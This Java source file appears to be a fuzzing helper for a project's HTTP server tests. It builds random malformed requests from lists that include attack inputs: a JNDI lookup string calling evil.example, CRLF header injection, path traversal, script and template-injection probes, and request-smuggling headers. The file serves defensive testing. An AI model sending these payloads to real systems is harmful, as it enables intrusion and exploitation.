package jinbo.platform.http;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * A request that a seed draws: real paths and fields of a port, headers and bodies as browsers, programs and attackers send them, or
 * garbage, whole or in pieces.
 *
 * @param pieces what is sent, one after the other
 */
record RandomRequest(List<byte[]> pieces) {

    private static final List<String> METHODS = List.of(
            "GET",
            "GET",
            "GET",
            "GET",
            "POST",
            "POST",
            "POST",
            "POST",
            "PUT",
            "PATCH",
            "DELETE",
            "HEAD",
            "OPTIONS",
            "TRACE",
            "CONNECT",
            "PROPFIND",
            "get",
            "P\u00d6ST",
            "");

    private static final List<String> FIELDS = List.of(
            "act",
            "action",
            "actor",
            "again",
            "caller",
            "certificate",
            "chineseName",
            "code",
            "confidentiality",
            "consent",
            "current",
            "day",
            "evidence",
            "ruling",
            "fingerprint",
            "form",
            "from",
            "ground",
            "hostKey",
            "insurer",
            "job",
            "lang",
            "line",
            "month",
            "name",
            "number",
            "object",
            "on",
            "page",
            "password",
            "purpose",
            "query",
            "question",
            "reason",
            "salesperson",
            "selfDiscipline",
            "sftp",
            "sshKey",
            "term",
            "time",
            "to",
            "unit",
            "until",
            "words",
            "_method",
            "_csrf",
            "a[0].b",
            "a[99999999].b",
            "class.name",
            "trace",
            "message");

    private static final List<String> VALUES = List.of(
            "",
            "1",
            "0",
            "-1",
            "99999999999999999999",
            "13810001234",
            "123456",
            "LIFE",
            "1Y",
            "2026-11-24",
            "9999-99-99",
            "YUNHE",
            "zh",
            "en",
            "zh-Hans-CN-x-private",
            "%00",
            "%zz",
            "%",
            "%E7%A6%81%E6%8B%A8",
            "%ff%fe",
            "%F0%9F%93%B5",
            "%0d%0aSet-Cookie:a=b",
            "..%2f..%2fetc",
            "%3Cscript%3E",
            "'--",
            "${7*7}",
            "*%7B7*7%7D",
            "true",
            "null",
            "x,y,z",
            "+861",
            "2026-11-lines",
            "20:15",
            "NaN",
            "\u00e4\u0007");

    private static final List<String> HEADERS = List.of(
            "Accept: text/html",
            "Accept: */*",
            "Accept: application/json",
            "Accept: text/event-stream;q=nonsense",
            "Accept: ////",
            "Accept: " + "text/html,".repeat(60) + "a/b",
            "Accept-Charset: bogus",
            "Accept-Encoding: gzip, br;q=2",
            "Accept-Language: zh-CN,zh;q=0.9,en;q=0.8",
            "Accept-Language: *",
            "Accept-Language: zz-ZZ;q=x,-,zh-,en_US,*;q=9",
            "Accept-Language: " + "zz-ZZ;q=0.1,".repeat(200) + "en",
            "Access-Control-Request-Method: PUT",
            "Authorization: Basic !!!",
            "Authorization: Bearer x",
            "Cache-Control: no-cache",
            "Connection: close",
            "Connection: upgrade, HTTP2-Settings",
            "Content-Encoding: gzip",
            "Content-Language: zz",
            "Content-Length: -1",
            "Content-Length: 5, 5",
            "Content-Length: x",
            "Content-Range: bytes 0-1/2",
            "Cookie: jinbo-visit=x; jinbo-session=y; jinbo-form=z",
            "Cookie: jinbo-portal-language=xx_%%_1; jinbo-language=\"",
            "Cookie: jinbo-language=zh_CN_#Hans; a=" + "b".repeat(500),
            "Cookie: =;;=,\u00e4",
            "Expect: 100-continue",
            "Expect: the moon",
            "Forwarded: for=[::1];host=evil.example;proto=https",
            "Host: evil.example",
            "HTTP2-Settings: AAMAAABkAAQAAP__",
            "If-Match: *",
            "If-Modified-Since: yesterday",
            "If-Modified-Since: Tue, 24 Nov 2026 09:00:00 GMT",
            "If-None-Match: \"x\", W/\"y",
            "If-Range: x",
            "jinbo-signature: v1,AAAA",
            "jinbo-timestamp: 1795482000",
            "jinbo-timestamp: -1",
            "Origin: null",
            "Origin: http://[",
            "Range: bytes=0-",
            "Range: bytes=5-1,-0,99999999999999999999-",
            "Range: lines=1",
            "Referer: http://evil.example/",
            "TE: trailers",
            "Transfer-Encoding: gzip, chunked",
            "Transfer-Encoding: identity",
            "Transfer-Encoding: xchunked",
            "Upgrade: h2c",
            "Upgrade: websocket",
            "User-Agent: ${jndi:ldap://evil.example/a}",
            "X-Forwarded-For: 203.0.113.1, x",
            "X-Forwarded-Host: evil.example:99999",
            "X-Forwarded-Port: x",
            "X-Forwarded-Proto: gopher",
            "X-Forwarded-Prefix: /%00",
            "X-HTTP-Method-Override: DELETE",
            "X-Long: " + "x".repeat(5000),
            "X-Too-Long: " + "x".repeat(9000),
            "X-\u00e4: \u00f6",
            "no colon",
            " : ");

    private static final List<String> TYPES = List.of(
            "application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded;charset=bogus",
            "application/x-www-form-urlencoded;charset=UTF-16",
            "APPLICATION/X-WWW-FORM-URLENCODED ; charset=utf-8",
            "multipart/form-data; boundary=x",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/mixed; boundary=x",
            "application/json",
            "application/octet-stream",
            "text/plain;charset=\"",
            "text",
            "/",
            ";;;");

    /**
     * Draws one.
     *
     * @param paths of the port
     * @param known headers of a visitor whom the port knows, each with its line end
     * @param token what its forms need
     */
    static RandomRequest of(long seed, List<String> paths, String host, String known, String token) {
        Random random = new Random(seed);
        StringBuilder head = new StringBuilder(pick(random, METHODS))
                .append(' ')
                .append(target(random, paths))
                .append(' ')
                .append(one(random, 30) ? pick(random, List.of("HTTP/1.0", "HTTP/2.0", "HTTP/9", "")) : "HTTP/1.1")
                .append("\r\n");
        if (!one(random, 30)) {
            head.append("Host: ").append(host).append("\r\n");
        }
        if (one(random, 2)) {
            head.append(known);
        }
        List<String> headers = new ArrayList<>(HEADERS);
        Collections.shuffle(headers, random);
        headers.subList(0, random.nextInt(6))
                .forEach(header -> head.append(header).append("\r\n"));
        byte[] body = one(random, 3) ? new byte[0] : body(random, head, token);
        byte[] all = join(
                head.append(one(random, 100) ? "" : "\r\n").toString().getBytes(StandardCharsets.ISO_8859_1), body);
        return new RandomRequest(inPieces(random, all));
    }

    @Override
    public String toString() {
        String all = pieces.stream()
                .map(piece -> new String(piece, StandardCharsets.ISO_8859_1))
                .collect(Collectors.joining());
        return all.substring(0, Math.min(600, all.length()))
                .replace("\r\n", "\\r\\n")
                .replaceAll("[^ -~]", "?");
    }

    private static String target(Random random, List<String> paths) {
        if (one(random, 50)) {
            return pick(
                    random,
                    List.of("*", "http://evil.example/", "//", "", "x", "/" + "y".repeat(3000), "/\u00ff\u0001"));
        }
        String path = pick(random, paths);
        if (one(random, 6)) {
            path += pick(
                    random,
                    List.of(
                            ";a=b",
                            "/",
                            "/x",
                            "%00",
                            "%2f",
                            "/..",
                            "/%2e%2e/x",
                            "//",
                            "\\",
                            "%",
                            "%e4%bd%a0",
                            ".json",
                            "\u00e4",
                            "%25",
                            "/" + "z".repeat(300)));
        }
        return one(random, 3) ? path + "?" + fields(random, "") : path;
    }

    private static byte[] body(Random random, StringBuilder head, String token) {
        String type = one(random, 2) ? TYPES.get(0) : pick(random, TYPES);
        if (!one(random, 20)) {
            head.append("Content-Type: ").append(type).append("\r\n");
        }
        byte[] content = switch (random.nextInt(5)) {
            case 0 -> garbage(random, random.nextInt(2000));
            case 1 -> parts(random, token);
            case 2 -> text("{\"id\":\"" + pick(random, VALUES) + "\",\"state\":[[[[");
            default -> text(fields(random, token));
        };
        if (one(random, 12)) {
            content = join(content, garbage(random, pick(random, List.of(1_000, 17_000, 40_000, 310_000, 600_000))));
        }
        if (one(random, 4)) {
            head.append("Transfer-Encoding: chunked\r\n");
            return chunks(random, content);
        }
        int length = one(random, 15) ? random.nextInt(content.length * 2 + 1) : content.length;
        head.append("Content-Length: ").append(length).append("\r\n");
        return content;
    }

    private static String fields(Random random, String token) {
        int count = one(random, 40) ? 1_500 : random.nextInt(8);
        return Stream.concat(
                        token.isEmpty() || one(random, 4) ? Stream.empty() : Stream.of("_csrf=" + token),
                        IntStream.range(0, count)
                                .mapToObj(i -> pick(random, FIELDS) + (one(random, 10) ? "" : "=") + value(random)))
                .collect(Collectors.joining(one(random, 20) ? "&&=&" : "&"));
    }

    private static String value(Random random) {
        return one(random, 40) ? pick(random, VALUES).repeat(random.nextInt(400)) : pick(random, VALUES);
    }

    private static byte[] parts(Random random, String token) {
        String end = "\r\n";
        StringBuilder all =
                new StringBuilder("--x\r\nContent-Disposition: form-data; name=\"_csrf\"\r\n\r\n" + token + end);
        int count = one(random, 20) ? 200 : random.nextInt(5);
        for (int i = 0; i < count; i++) {
            all.append("--x\r\nContent-Disposition: ")
                    .append(pick(random, List.of("form-data", "attachment", "")))
                    .append("; name=\"")
                    .append(pick(random, FIELDS))
                    .append(one(random, 2) ? "\"; filename=\"../x\u0001.pem\"\r\nContent-Type: x" : "\"")
                    .append(one(random, 10) ? end + "X: " + "y".repeat(2_000) : "")
                    .append(end + end)
                    .append(value(random))
                    .append(end);
        }
        return text(all.append(one(random, 5) ? "" : "--x--\r\n").toString());
    }

    private static byte[] chunks(Random random, byte[] content) {
        byte[] all = new byte[0];
        for (int at = 0; at < content.length; ) {
            int size = Math.min(content.length - at, 1 + random.nextInt(20_000));
            byte[] part = java.util.Arrays.copyOfRange(content, at, at + size);
            all = join(
                    all,
                    text(Integer.toHexString(size) + (one(random, 10) ? ";x=\"y" : "") + "\r\n"),
                    part,
                    text("\r\n"));
            at += size;
        }
        String last = pick(
                random,
                List.of(
                        "0\r\n\r\n",
                        "0\r\n\r\n",
                        "0\r\n\r\n",
                        "0\r\nX-Trailer: y\r\n\r\n",
                        "",
                        "zz\r\n",
                        "-1\r\n",
                        "ffffffffffffffff\r\n",
                        "0\r\nX: " + "y".repeat(9_000) + "\r\n\r\n"));
        return join(all, text(last));
    }

    private static List<byte[]> inPieces(Random random, byte[] all) {
        int most = one(random, 3) ? 1 + random.nextInt(6) : 1;
        List<byte[]> pieces = new ArrayList<>();
        for (int at = 0, left = most; left > 0; left--) {
            int size = left == 1 ? all.length - at : random.nextInt(all.length - at + 1);
            pieces.add(java.util.Arrays.copyOfRange(all, at, at + size));
            at += size;
        }
        return pieces;
    }

    private static byte[] garbage(Random random, int size) {
        byte[] bytes = new byte[size];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] join(byte[]... parts) {
        java.io.ByteArrayOutputStream all = new java.io.ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static boolean one(Random random, int in) {
        return random.nextInt(in) == 0;
    }

    private static <T> T pick(Random random, List<T> from) {
        return from.get(random.nextInt(from.size()));
    }
}
